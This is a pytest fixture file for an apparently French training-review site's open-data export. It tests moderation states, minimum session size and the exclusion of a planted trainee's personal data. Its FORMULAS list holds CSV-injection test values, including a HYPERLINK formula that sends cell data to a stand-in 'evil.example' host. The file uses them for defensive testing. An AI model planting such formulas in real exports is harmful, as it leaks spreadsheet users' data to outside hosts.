"""A small catalogue with reviews of every kind for the open-data export: comments
published, pending, rejected or kept private, replies published or not, comments that a
spreadsheet would run as formulas, a small session, answers spread over months, and a
trainee whose name and address must never appear in a file."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass

import pytest

from avis.catalog.models.trainees import Enrolment, Trainee
from avis.db import db
from avis.surveys.models.answers import Answer, CommentStatus
from tests.public.fixtures import (
    LAVAL,
    NANTES,
    RENNES,
    Offer,
    Place,
    add_answer,
    add_body,
    add_offer,
    add_reply,
    publish,
)
from tests.surveys.fixtures import create_invitation, enrol

#: Planted in the trainees table: no byte of them may reach a file.
TRAINEE_EMAIL = "zephyrine.quatrebarbes@example.org"
TRAINEE_FIRST_NAME = "Zéphyrine"
TRAINEE_LAST_NAME = "Quatrebarbes"

#: Comments a spreadsheet would run, each starting with one of = + - @.
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+33 6 12 34 56 78",
            "-2+3 ou pas", "@SUM(A1:A9)")

SAINT_NAZAIRE = Place("Saint-Nazaire", "44600", "44", funders=(2, 3))


@dataclass
class OpenWorld:
    atlantique: Offer
    laval: Offer
    rennes: Offer
    #: 3 enrolled trainees: below MIN_SESSION_SIZE (5), never exported
    small: Offer
    #: exactly MIN_SESSION_SIZE enrolled trainees: exported
    at_threshold: Offer
    shown: Answer
    pending: Answer
    rejected: Answer
    private: Answer
    #: published comment, its reply still pending
    reply_pending: Answer
    formulas: list[Answer]


def day(year: int, month: int, day_: int) -> dt.date:
    return dt.date(year, month, day_)


@pytest.fixture
def open_world(app_context: None) -> OpenWorld:
    atlantique_body = add_body("Atlantique Formation Conseil")
    mayenne_body = add_body("Institut Mayenne Métiers")
    bretagne_body = add_body("Bretagne Savoir-Faire")
    atlantique = add_offer(atlantique_body, "Soudeur industriel", NANTES,
                           formacodes=("22683", "22684"))
    atlantique.course.certifinfos = ["54913", "54914"]
    atlantique.session.funding_scheme = "PRF"
    laval = add_offer(atlantique_body, "Aide-soignant", LAVAL, formacodes=("43436",))
    rennes = add_offer(bretagne_body, "Électricien du bâtiment", RENNES,
                       formacodes=("22252",))
    small = add_offer(mayenne_body, "Comptable assistant", LAVAL, enrolled=3)
    at_threshold = add_offer(mayenne_body, "Cuisinier", SAINT_NAZAIRE, enrolled=5)
    # The planted trainee, in a session that is exported.
    create_invitation(enrol(atlantique.session, TRAINEE_EMAIL, first_name=TRAINEE_FIRST_NAME,
                            last_name=TRAINEE_LAST_NAME))

    shown = add_answer(atlantique, (5, 4, 4, 5, 3), day=day(2025, 2, 28),
                       comment=("Très bien", "Formation utile ; « bons » formateurs\nmerci"))
    add_reply(shown, "Merci pour votre retour !")
    pending = add_answer(atlantique, (3, 3, 4, 2, 2), day=day(2025, 2, 3),
                         comment=("En attente", "Commentaire en attente de modération"),
                         status=CommentStatus.pending)
    add_reply(pending, "Réponse à un commentaire en attente")
    rejected = add_answer(atlantique, (1, 2, 1, 2, 1), day=day(2025, 1, 15),
                          comment=("Rejeté", "Commentaire rejeté par la modération"),
                          status=CommentStatus.rejected, recommend=False)
    add_reply(rejected, "Réponse à un commentaire rejeté")
    private = add_answer(atlantique, (4, 4, 4, 4, 4), day=day(2025, 1, 20),
                         comment=("Privé", "Commentaire gardé privé par le stagiaire"),
                         public=False)
    reply_pending = add_answer(laval, (2, 5, 5, 5, 5), day=day(2025, 3, 1),
                               comment=(None, "Très bon accompagnement"))
    add_reply(reply_pending, "Réponse pas encore modérée", status=CommentStatus.pending)
    formulas = [add_answer(laval, (3, 4, 3, 4, 3), day=day(2025, 3, 10 + n),
                           comment=(formula if n % 2 else None, formula))
                for n, formula in enumerate(FORMULAS)]
    add_answer(laval, (5, 5, 5, 5, 5), day=day(2025, 3, 12),
               comment=("Bien\x0bfait", "Un caractère de contrôle\x0b au milieu"))
    for n in range(6):
        add_answer(rennes, (1 + n % 5, 2, 3, 4, 5), day=day(2024, 12, 1 + n))
    add_answer(rennes, (5, 5, 5, 5, 4), day=day(2024, 12, 31), recommend=False)
    add_answer(small, (5, 5, 5, 5, 5), day=day(2025, 2, 10),
               comment=("Petit groupe", "Nous étions trois dans cette session"))
    add_answer(at_threshold, (4, 3, 4, 3, 4), day=day(2025, 2, 11),
               comment=("Au seuil", "Session de cinq stagiaires"))
    publish()
    return OpenWorld(atlantique=atlantique, laval=laval, rennes=rennes, small=small,
                     at_threshold=at_threshold, shown=shown, pending=pending,
                     rejected=rejected, private=private, reply_pending=reply_pending,
                     formulas=formulas)


def enrolled(session_id: int) -> int:
    return db.session.query(Enrolment).filter_by(session_id=session_id).count()


def planted_trainee_exists() -> bool:
    return db.session.query(Trainee).filter_by(email=TRAINEE_EMAIL).count() == 1
